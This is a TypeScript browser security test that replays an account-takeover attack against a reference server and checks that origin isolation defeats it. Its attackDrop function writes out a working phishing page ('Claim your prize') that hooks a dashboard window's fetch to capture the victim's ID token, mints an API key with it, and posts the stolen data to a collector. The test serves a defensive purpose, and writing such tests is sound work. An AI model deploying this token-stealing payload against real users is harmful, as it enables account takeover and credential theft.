/**
 * The account-takeover attack of issue 11, replayed in real Chromium against the reference server:
 * an anonymous drop (text/html) opens the dashboard in a new window when clicked, and tries to wrap
 * that window's `fetch` to take the ID token the victim signs in with, then mint itself a key with
 * it. What the drop obtains it keeps in its own window (`window.loot`, read by the test) and posts
 * to a collector the test runs. The drop must obtain neither the token nor a key, and must run
 * with an opaque origin (`self.origin === "null"`); with `DROPS_ORIGIN` it is served from that
 * separate origin.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, startTestServer, type TestServer } from '../../express-server/src/testing/test-server.js';
import { launchChromium } from '../test/launch-chromium.js';

/** What the drop managed to do, as it recorded it in its own window. */
interface Loot {
  readonly origin: string;
  readonly locationOrigin: string;
  /** `opened`, then `hooked` (it wraps the dashboard's fetch), `cut-off` (COOP), `blocked` (cross-origin) or `no-window`. */
  readonly state: string;
  readonly token: string | null;
  readonly key: string | null;
  readonly errors: string[];
}

/** The attacker's page: everything it gets goes into `window.loot` and to the collector. */
function attackDrop(dashboardUrl: string, collectorUrl: string): string {
  const script = `
    const DASHBOARD = ${JSON.stringify(dashboardUrl)};
    const COLLECTOR = ${JSON.stringify(collectorUrl)};
    const loot = { origin: self.origin, locationOrigin: location.origin, state: 'idle', token: null, key: null, errors: [] };
    window.loot = loot;
    const report = (kind, data) =>
      fetch(COLLECTOR + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ kind, data }) }).catch(() => {});
    report('loaded', { origin: self.origin, locationOrigin: location.origin });
    document.getElementById('claim').addEventListener('click', () => {
      const w = window.open(DASHBOARD);
      loot.state = 'opened';
      const timer = setInterval(() => {
        try {
          if (w === null) { loot.state = 'no-window'; clearInterval(timer); return; }
          if (w.closed) { loot.state = 'cut-off'; clearInterval(timer); return; }
          // Still the initial about:blank, or the dashboard not parsed yet: try again.
          if (w.location.pathname !== '/dashboard/' || w.document.readyState === 'loading' || w.__hooked) return;
          const real = w.fetch;
          w.fetch = function (input, init) {
            const auth = new w.Headers(init && init.headers).get('authorization');
            if (auth && loot.token === null) {
              loot.token = auth;
              report('token', auth);
              real.call(w, new URL('/keys', DASHBOARD), {
                method: 'POST',
                headers: { authorization: auth, 'content-type': 'application/json' },
                body: JSON.stringify({ name: 'stolen' }),
              }).then((r) => r.json()).then((k) => { loot.key = k.apiKey ?? null; report('key', k); });
            }
            return real.apply(this, arguments);
          };
          w.__hooked = true;
          loot.state = 'hooked';
        } catch (error) {
          loot.state = 'blocked';
          loot.errors.push(String(error));
          clearInterval(timer);
        }
      }, 10);
    });`;
  return `<!doctype html><title>Free prize</title><button id="claim">Claim your prize</button><script>${script}</script>`;
}

/** Records every report a drop posts (no-cors, so it arrives whatever the drop's origin). */
async function startCollector(): Promise<{ url: string; reports: Array<{ kind: string; data: unknown }>; close(): Promise<void> }> {
  const reports: Array<{ kind: string; data: unknown }> = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      if (req.method === 'POST') reports.push(JSON.parse(body) as { kind: string; data: unknown });
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    reports,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * The same app on a second loopback address, as a reverse proxy would route a second host name to
 * it: listening first tells the port, so `DROPS_ORIGIN` can name it before the server starts.
 */
async function startDropsListener(): Promise<{ origin: string; server: Server }> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  return { origin: `http://127.0.0.2:${(server.address() as AddressInfo).port}`, server };
}

const readLoot = (page: Page): Promise<Loot> => page.evaluate(() => (window as unknown as { loot: Loot }).loot);

describe('a drop cannot take over the account of a person who signs in from it (Chromium)', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  describe.each([
    ['on the API origin, sandboxed', false],
    ['on DROPS_ORIGIN, a second loopback host', true],
  ])('drop served %s', (_name, separateOrigin) => {
    let server: TestServer;
    let collector: Awaited<ReturnType<typeof startCollector>>;
    let drops: { origin: string; server: Server } | null = null;

    beforeAll(async () => {
      collector = await startCollector();
      drops = separateOrigin ? await startDropsListener() : null;
      server = await startTestServer({ backend: 'pglite', idp: 'dev', env: drops !== null ? { DROPS_ORIGIN: drops.origin } : {} });
      drops?.server.on('request', server.running.app);
    }, 60_000);

    afterAll(async () => {
      await server?.close();
      if (drops !== null) {
        drops.server.closeAllConnections();
        await new Promise<void>((resolve) => drops!.server.close(() => resolve()));
      }
      await collector?.close();
    });

    it('gets neither the ID token nor a key, and runs with an opaque origin', async () => {
      const deployed = await server.fetch('/deploy', {
        method: 'POST',
        headers: { 'content-type': 'text/html' },
        body: attackDrop(`${server.url}/dashboard/`, collector.url),
      });
      expect(deployed.status).toBe(201);
      const { url: dropUrl } = (await deployed.json()) as { url: string };
      const dropOrigin = drops?.origin ?? server.url;
      expect(new URL(dropUrl).origin).toBe(dropOrigin);

      const context = await browser.newContext();
      try {
        const drop = await context.newPage();
        drop.setDefaultTimeout(10_000);
        await drop.goto(dropUrl);
        await expect.poll(() => collector.reports.map((r) => r.kind)).toContain('loaded');
        expect.soft(collector.reports[0]?.data).toEqual({ origin: 'null', locationOrigin: dropOrigin });

        // The victim clicks, the dashboard opens, and the drop tries to reach into it.
        const opened = context.waitForEvent('page');
        await drop.getByRole('button', { name: 'Claim your prize' }).click();
        const dashboard = await opened;
        dashboard.setDefaultTimeout(10_000);
        await expect.poll(async () => (await readLoot(drop)).state).not.toMatch(/^(idle|opened)$/);

        // The victim signs in on the dashboard (development sign-in) and mints a key.
        await dashboard.getByRole('heading', { name: 'Sign in' }).waitFor();
        expect(dashboard.url()).toBe(`${server.url}/dashboard/`);
        await dashboard.getByLabel('Name', { exact: true }).fill('victim');
        await dashboard.getByRole('button', { name: 'Sign in' }).click();
        await dashboard.getByRole('heading', { name: 'API keys and drops' }).waitFor();
        await dashboard.getByLabel('Key name', { exact: true }).fill('laptop');
        await dashboard.getByRole('button', { name: 'Mint key' }).click();
        const secret = dashboard.getByLabel('API key', { exact: true });
        await expect.poll(() => secret.inputValue()).toMatch(/^hp_/);
        await dashboard.getByRole('row', { name: /laptop/ }).waitFor();

        const loot = await readLoot(drop);
        expect(loot, JSON.stringify(loot)).toMatchObject({ origin: 'null', locationOrigin: dropOrigin, token: null, key: null });
        expect(['cut-off', 'blocked'], JSON.stringify(loot)).toContain(loot.state);
        // The victim's account holds the one key the victim minted, nothing else.
        const keys = await server.fetch('/keys', { headers: bearer(await server.token('victim')) });
        expect(((await keys.json()) as { keys: Array<{ name: string }> }).keys.map((k) => k.name)).toEqual(['laptop']);
        expect(collector.reports.map((r) => r.kind)).toEqual(['loaded']);
      } finally {
        await context.close();
      }
    });
  });
});
